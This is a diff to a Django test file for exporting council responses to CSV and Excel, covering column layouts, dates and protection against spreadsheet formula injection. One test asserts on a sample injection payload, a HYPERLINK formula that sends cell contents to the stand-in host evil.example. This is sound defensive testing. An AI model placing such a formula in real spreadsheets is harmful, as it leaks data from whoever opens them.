@@ -8,7 +8,7 @@ import openpyxl
 from django.urls import reverse
 
 from recommendations.models import Recommendation
-from responses.exports import COLUMNS, safe_cell
+from responses.exports import COLUMNS, TEMPLATE_COLUMNS, safe_cell, unquote_cell
 from responses.models import LocalResponse, Rag, Status
 
 from .helpers import normalise
@@ -45,7 +45,8 @@ def test_central_bedfordshire_csv_has_a_row_for_every_recommendation_and_part_wi
     rows = read_csv(
         officer_client.get(reverse("responses:council_export", args=["central-bedfordshire", "csv"]))
     )
-    assert rows[0] == COLUMNS
+    # A council's export is its import template: the columns people read, then the template's own.
+    assert rows[0] == TEMPLATE_COLUMNS
     body = rows[1:]
     assert len(body) == 69  # 58, with 2 and 19 answered part by part (10 and 3 parts)
     keys = [(int(row[1]), row[2]) for row in body]
@@ -80,7 +81,7 @@ def test_excel_export_holds_the_same_rows(officer_client):
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     rows = list(sheet.iter_rows(values_only=True))
-    assert list(rows[0]) == COLUMNS
+    assert list(rows[0]) == TEMPLATE_COLUMNS
     assert len(rows) == 70
     assert rows[1][1] == 1
     assert rows[1][COLUMNS.index("Short title")] == "Joint strategic priorities across government"
@@ -98,17 +99,25 @@ def test_exports_are_safe_against_spreadsheet_formulas(officer_client, officer_d
     assert row[COLUMNS.index("Response")].startswith("'=HYPERLINK")
     assert row[COLUMNS.index("Lead officer")] == "'+44 1325 388 000"
 
+    # In Excel the text is a text cell, which is never run, and comes back as it was: no apostrophe
+    # (which would come back on re-import). Excel's quote prefix keeps it text if the cell is edited.
     xlsx = officer_client.get(reverse("responses:council_export", args=["darlington", "xlsx"]))
     sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
-    cell = next(r for r in sheet.iter_rows() if r[1].value == 51)[COLUMNS.index("Response")]
+    row = next(r for r in sheet.iter_rows() if r[1].value == 51)
+    cell = row[COLUMNS.index("Response")]
     assert cell.data_type == "s"
-    assert cell.value.startswith("'=HYPERLINK")
+    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert cell.quotePrefix
+    assert row[COLUMNS.index("Lead officer")].value == "+44 1325 388 000"
 
 
-def test_safe_cell_escapes_every_formula_start():
-    for start in ("=", "+", "-", "@", "\t", "\r"):
+def test_safe_cell_escapes_every_formula_start_and_reading_back_takes_off_only_that():
+    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
         assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+        assert unquote_cell(safe_cell(f"{start}1+1")) == f"{start}1+1"
     assert safe_cell("Plain text") == "Plain text"
+    assert safe_cell("It's plain") == "It's plain"
+    assert unquote_cell("'quoted' word") == "'quoted' word"
     assert safe_cell(None) == ""
 
 
@@ -167,10 +176,21 @@ def keyed(rows):
 
 def test_council_export_gives_every_column_of_each_response_and_each_part(officer_client, varied):
     rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
-    assert rows[0] == COLUMNS
+    assert rows[0] == TEMPLATE_COLUMNS
     # 57 recommendations a row each, and recommendation 2 a row for each of its ten parts.
     assert len(rows[1:]) == 57 + 10
-    by_key = keyed(rows[1:])
+    # After the columns people read: an empty progress note, the row's identity and its version.
+    for row in rows[1:]:
+        key = f"{row[1]}({row[2]})" if row[2] else row[1]
+        response = LocalResponse.objects.filter(
+            authority=varied.darlington, recommendation__number=int(row[1]), part__letter=row[2] or None
+        ).first()
+        assert row[len(COLUMNS) :] == (
+            ["", "darlington", key, str(response.pk), str(response.version)]
+            if response
+            else ["", "darlington", key, "", "0"]
+        )
+    by_key = keyed(row[: len(COLUMNS)] for row in rows[1:])
     two = Recommendation.objects.get(number=2)
     for recommendation in Recommendation.objects.prefetch_related("parts"):
         parts = list(recommendation.parts.all()) if recommendation.number == 2 else [None]
@@ -250,8 +270,21 @@ def test_excel_council_export_holds_the_same_rows_as_the_csv(officer_client, var
     csv_rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
     xlsx = officer_client.get(reverse("responses:council_export", args=["darlington", "xlsx"]))
     sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
-    xlsx_rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
+    # Target dates are real dates in Excel (2009-06-30 in the CSV).
+    xlsx_rows = [
+        [
+            "" if v is None else v.date().isoformat() if isinstance(v, datetime.datetime) else str(v)
+            for v in row
+        ]
+        for row in sheet.iter_rows(values_only=True)
+    ]
     assert xlsx_rows == csv_rows
+    dates = [COLUMNS.index("Original target date"), COLUMNS.index("Target date")]
+    assert {type(row[i].value) for row in sheet.iter_rows(min_row=2) for i in dates} == {
+        datetime.datetime,
+        type(None),
+    }
+    assert all(row[i].is_date for row in sheet.iter_rows(min_row=2) for i in dates if row[i].value)
 
 
 def test_filtered_export_gives_every_column_of_the_responses_shown(officer_client, varied):
